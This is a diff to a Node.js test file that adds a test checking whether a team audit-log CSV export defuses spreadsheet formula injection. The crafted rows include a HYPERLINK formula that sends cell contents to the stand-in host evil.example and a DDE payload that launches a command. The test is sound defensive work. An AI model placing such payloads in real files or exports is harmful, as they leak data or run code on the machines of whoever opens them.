@@ -3,6 +3,7 @@
 // and that entries hold ids, never personal data.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import { run, startServer, yorkDatabase, backend } from '../lib/alongside.mjs';
 import { Browser, DEMO_PASSWORD } from '../lib/staff.mjs';
 
@@ -225,4 +226,64 @@ test('team leaders see their own team\'s trail, and export it as CSV', async () 
   assert.match(badFilter.text, /<a href="#from">Enter the from date/);
   assert.match(badFilter.text, /<a href="#to">Enter the to date/);
   assert.equal((await jo.get('/team/audit.csv?to=2026-02-30')).status, 422);
+});
+
+// Runs one statement on the test database, behind the binary's back.
+function sql(statement) {
+  if (backend === 'postgresql') execFileSync('psql', [db, '-qAtc', statement], { stdio: 'pipe' });
+  else execFileSync('sqlite3', [db.replace(/^sqlite:/, ''), statement], { stdio: 'pipe' });
+}
+
+// RFC 4180: quoted cells with "" for a quote, rows ended by CRLF.
+function parseCsv(text) {
+  const rows = [];
+  let row = [], cell = '', quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell); rows.push(row); row = []; cell = ''; i++;
+    } else cell += c;
+  }
+  assert.equal(cell + row.join(''), '', 'the file ends with a whole row');
+  return rows;
+}
+
+test('every cell of the audit CSV that a spreadsheet would run is made inert', async () => {
+  // No field a request can fill reaches the team's trail with such a first
+  // character today (usernames start with a letter or digit, the rest are
+  // ids, names of actions and addresses), so the row is written straight
+  // into the database, as an older version or an import might have left it.
+  const crafted = {
+    actor_token_id: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    action: '+SUM(1,2)',
+    outcome: '-1+2',
+    record_type: '@SUM(1)',
+    record_id: '\t=1+1',
+    client_address: '\r=1+1',
+    request_id: "\r\n=cmd|' /C calc'!A0",
+  };
+  const quote = (v) => "'" + v.replace(/'/g, "''") + "'";
+  sql('INSERT INTO audit_log (id, at, actor_token_id, action, outcome, record_type, record_id, area_id,'
+    + ` client_address, request_id) VALUES ('${'c'.repeat(32)}', '${new Date().toISOString()}',`
+    + ` ${quote(crafted.actor_token_id)}, ${quote(crafted.action)}, ${quote(crafted.outcome)},`
+    + ` ${quote(crafted.record_type)}, ${quote(crafted.record_id)}, '${areas['Acomb and Westfield']}',`
+    + ` ${quote(crafted.client_address)}, ${quote(crafted.request_id)})`);
+  const jo = await new Browser(server.url).signedIn('jo.bennett');
+  const csv = await jo.get('/team/audit.csv');
+  assert.equal(csv.status, 200);
+  const [header, ...rows] = parseCsv(csv.text);
+  assert.deepEqual(header, ['at', 'who', 'action', 'outcome', 'record_type', 'record_id', 'area_id',
+    'client_address', 'request_id']);
+  assert.ok(rows.every((r) => r.length === header.length), 'every row has every column');
+  const row = rows.find((r) => r[8].includes('calc'));
+  assert.ok(row, 'the crafted row is in the export');
+  assert.deepEqual(row.slice(1, 9), [crafted.actor_token_id, crafted.action, crafted.outcome,
+    crafted.record_type, crafted.record_id, areas['Acomb and Westfield'], crafted.client_address,
+    crafted.request_id].map((v, i) => (i === 5 ? v : "'" + v)));
+  for (const r of rows) {
+    for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(cell));
+  }
 });
